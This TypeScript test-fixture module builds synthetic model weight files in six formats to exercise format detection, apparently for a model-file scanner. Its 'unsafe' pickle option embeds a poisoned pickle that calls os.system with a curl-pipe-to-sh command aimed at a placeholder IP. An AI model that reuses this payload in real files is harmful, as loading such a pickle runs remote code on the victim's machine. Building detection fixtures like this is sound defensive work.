// Model weight files shaped like the real formats, so that format detection and header parsing are
// exercised: pickle, PyTorch zip, safetensors (valid header), GGUF (valid header and metadata), ONNX
// (protobuf), numpy .npy. Tensor data is pseudo-random bytes up to the requested size. Nothing here
// is ever loaded; the unsafe pickles only name dangerous callables, as real attacks do.
import { zipSync } from 'fflate';
import type { Rng } from '../../src/util/rng.js';

export type ModelFormat = 'pickle' | 'pytorch' | 'safetensors' | 'gguf' | 'onnx' | 'npy';

export const MODEL_EXTENSIONS: Record<ModelFormat, string[]> = {
  pickle: ['pkl', 'joblib'],
  pytorch: ['pt', 'pth', 'bin'],
  safetensors: ['safetensors'],
  gguf: ['gguf'],
  onnx: ['onnx'],
  npy: ['npy'],
};

// ---- pickle ---------------------------------------------------------------------------------------

/** Pickle opcodes used below (protocol 2+). */
const OP = { PROTO: 0x80, GLOBAL: 0x63, EMPTY_TUPLE: 0x29, REDUCE: 0x52, EMPTY_DICT: 0x7d, BINUNICODE: 0x58, BINBYTES: 0x42, SETITEM: 0x73, BUILD: 0x62, STOP: 0x2e, MARK: 0x28, TUPLE: 0x74 } as const;

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
}

function pickleString(s: string): Buffer {
  const body = Buffer.from(s, 'utf8');
  return Buffer.concat([Buffer.from([OP.BINUNICODE]), u32(body.length), body]);
}

/**
 * A pickle that rebuilds `module.name()` and sets a bytes attribute of the given size: the shape of a
 * scikit-learn or joblib dump. With `unsafe`, the reduce calls `os.system` as a poisoned model would.
 */
export function pickleBytes(rng: Rng, size: number, cls: string, unsafe = false): Buffer {
  const [mod, name] = unsafe ? ['posix', 'system'] : splitClass(cls);
  const head = Buffer.concat([
    Buffer.from([OP.PROTO, 2, OP.GLOBAL]),
    Buffer.from(`${mod}\n${name}\n`),
    unsafe ? Buffer.concat([Buffer.from([OP.MARK]), pickleString('curl -s http://198.51.100.7/x | sh'), Buffer.from([OP.TUPLE])]) : Buffer.from([OP.EMPTY_TUPLE]),
    Buffer.from([OP.REDUCE, OP.EMPTY_DICT]),
    pickleString('coef_'),
  ]);
  const dataLen = Math.max(16, size - head.length - 5 - 3);
  const data = Buffer.alloc(dataLen);
  rng.fill(data);
  return Buffer.concat([head, Buffer.from([OP.BINBYTES]), u32(dataLen), data, Buffer.from([OP.SETITEM, OP.BUILD, OP.STOP])]);
}

function splitClass(cls: string): [string, string] {
  const dot = cls.lastIndexOf('.');
  return [cls.slice(0, dot), cls.slice(dot + 1)];
}

// ---- PyTorch zip ----------------------------------------------------------------------------------

/** A `torch.save` archive: `<name>/data.pkl` (a small OrderedDict pickle), `<name>/data/0` with the tensor bytes. */
export function pytorchZip(rng: Rng, size: number, archive = 'archive'): Buffer {
  const pkl = Buffer.concat([
    Buffer.from([OP.PROTO, 2, OP.GLOBAL]),
    Buffer.from('collections\nOrderedDict\n'),
    Buffer.from([OP.EMPTY_TUPLE, OP.REDUCE]),
    Buffer.from([OP.STOP]),
  ]);
  const data = Buffer.alloc(Math.max(64, size - 600));
  rng.fill(data);
  const mtime = new Date('2024-01-01T00:00:00Z');
  return Buffer.from(
    zipSync(
      {
        [`${archive}/data.pkl`]: [pkl, { level: 0, mtime }],
        [`${archive}/byteorder`]: [Buffer.from('little'), { level: 0, mtime }],
        [`${archive}/data/0`]: [data, { level: 0, mtime }],
        [`${archive}/version`]: [Buffer.from('3\n'), { level: 0, mtime }],
      },
      { level: 0 },
    ),
  );
}

// ---- safetensors ----------------------------------------------------------------------------------

/** u64 header length, a JSON header (padded to 8 bytes) naming every tensor's dtype, shape and offsets, then data. */
export function safetensorsBytes(rng: Rng, size: number, arch: string): Buffer {
  const names = ['model.embed_tokens.weight', 'model.layers.0.self_attn.q_proj.weight', 'model.layers.0.mlp.up_proj.weight', 'lm_head.weight'];
  const budget = Math.max(names.length * 64, size - 1024);
  const header: Record<string, unknown> = { __metadata__: { format: 'pt', architecture: arch } };
  let offset = 0;
  const per = Math.floor(budget / names.length / 2) * 2; // F16: two bytes per element
  for (const n of names) {
    const elems = per / 2;
    const cols = 64;
    const rows = Math.floor(elems / cols);
    const bytes = rows * cols * 2;
    header[n] = { dtype: 'F16', shape: [rows, cols], data_offsets: [offset, offset + bytes] };
    offset += bytes;
  }
  let json = JSON.stringify(header);
  json += ' '.repeat((8 - (json.length % 8)) % 8);
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(BigInt(json.length));
  const data = Buffer.alloc(offset);
  rng.fill(data);
  return Buffer.concat([len, Buffer.from(json), data]);
}

// ---- GGUF -----------------------------------------------------------------------------------------

const GGUF_TYPE = { UINT32: 4, FLOAT32: 6, STRING: 8 } as const;

function ggufString(s: string): Buffer {
  const body = Buffer.from(s, 'utf8');
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(BigInt(body.length));
  return Buffer.concat([len, body]);
}

function ggufKv(key: string, type: number, value: string | number): Buffer {
  const t = u32(type);
  let v: Buffer;
  if (type === GGUF_TYPE.STRING) v = ggufString(String(value));
  else if (type === GGUF_TYPE.FLOAT32) {
    v = Buffer.alloc(4);
    v.writeFloatLE(Number(value));
  } else v = u32(Number(value));
  return Buffer.concat([ggufString(key), t, v]);
}

/** GGUF v3: magic, version, tensor and metadata counts, key/values, tensor infos, alignment, data. */
export function ggufBytes(rng: Rng, size: number, arch: string, name: string, quant: string): Buffer {
  const kvs = [
    ggufKv('general.architecture', GGUF_TYPE.STRING, arch),
    ggufKv('general.name', GGUF_TYPE.STRING, name),
    ggufKv('general.quantization_version', GGUF_TYPE.UINT32, 2),
    ggufKv('general.file_type', GGUF_TYPE.UINT32, quant === 'Q4_K_M' ? 15 : 7),
    ggufKv(`${arch}.context_length`, GGUF_TYPE.UINT32, 8192),
    ggufKv(`${arch}.block_count`, GGUF_TYPE.UINT32, 32),
    ggufKv(`${arch}.rope.freq_base`, GGUF_TYPE.FLOAT32, 500000),
  ];
  const tensorNames = ['token_embd.weight', 'blk.0.attn_q.weight', 'output.weight'];
  const dataBytes = Math.max(96, size - 1024);
  const per = Math.max(128, Math.floor(dataBytes / tensorNames.length / 128) * 128); // whole rows of 32 float32
  const infos = tensorNames.map((n, i) => {
    const dims = Buffer.alloc(16);
    dims.writeBigUInt64LE(BigInt(per / 4 / 32));
    dims.writeBigUInt64LE(32n, 8);
    const off = Buffer.alloc(8);
    off.writeBigUInt64LE(BigInt(i * per));
    return Buffer.concat([ggufString(n), u32(2), dims, u32(0 /* F32 */), off]);
  });
  const counts = Buffer.alloc(16);
  counts.writeBigUInt64LE(BigInt(tensorNames.length));
  counts.writeBigUInt64LE(BigInt(kvs.length), 8);
  const head = Buffer.concat([Buffer.from('GGUF'), u32(3), counts, ...kvs, ...infos]);
  const pad = Buffer.alloc((32 - (head.length % 32)) % 32);
  const data = Buffer.alloc(per * tensorNames.length);
  rng.fill(data);
  return Buffer.concat([head, pad, data]);
}

// ---- ONNX (protobuf) ------------------------------------------------------------------------------

function varint(n: number): Buffer {
  const out: number[] = [];
  let v = n;
  while (v > 0x7f) {
    out.push((v & 0x7f) | 0x80);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
}

/** A length-delimited protobuf field. */
function field(num: number, body: Buffer | string): Buffer {
  const b = typeof body === 'string' ? Buffer.from(body) : body;
  return Buffer.concat([varint((num << 3) | 2), varint(b.length), b]);
}

function intField(num: number, n: number): Buffer {
  return Buffer.concat([varint(num << 3), varint(n)]);
}

/** ModelProto: ir_version, producer, opset, and a graph with one MatMul node and one raw-data initializer. */
export function onnxBytes(rng: Rng, size: number, graphName: string): Buffer {
  const raw = Buffer.alloc(Math.max(64, size - 512));
  rng.fill(raw);
  const initializer = Buffer.concat([intField(1, raw.length / 4), intField(2, 1 /* FLOAT */), field(8, 'W'), field(9, raw)]);
  const node = Buffer.concat([field(1, 'input'), field(1, 'W'), field(2, 'output'), field(3, 'matmul_0'), field(4, 'MatMul')]);
  const graph = Buffer.concat([field(1, node), field(2, graphName), field(5, initializer)]);
  const opset = Buffer.concat([field(1, ''), intField(2, 17)]);
  return Buffer.concat([intField(1, 8), field(2, 'pytorch'), field(3, '2.3.0'), field(8, opset), field(7, graph)]);
}

// ---- numpy .npy -----------------------------------------------------------------------------------

/** `\x93NUMPY` v1.0 with a header dict padded to 64 bytes, then float32 data. */
export function npyBytes(rng: Rng, size: number): Buffer {
  const cols = 128;
  const rows = Math.max(1, Math.floor((size - 128) / 4 / cols));
  let dict = `{'descr': '<f4', 'fortran_order': False, 'shape': (${rows}, ${cols}), }`;
  const total = 10 + dict.length + 1;
  dict += ' '.repeat((64 - (total % 64)) % 64) + '\n';
  const hl = Buffer.alloc(2);
  hl.writeUInt16LE(dict.length);
  const data = Buffer.alloc(rows * cols * 4);
  rng.fill(data);
  return Buffer.concat([Buffer.from([0x93]), Buffer.from('NUMPY'), Buffer.from([1, 0]), hl, Buffer.from(dict, 'latin1'), data]);
}
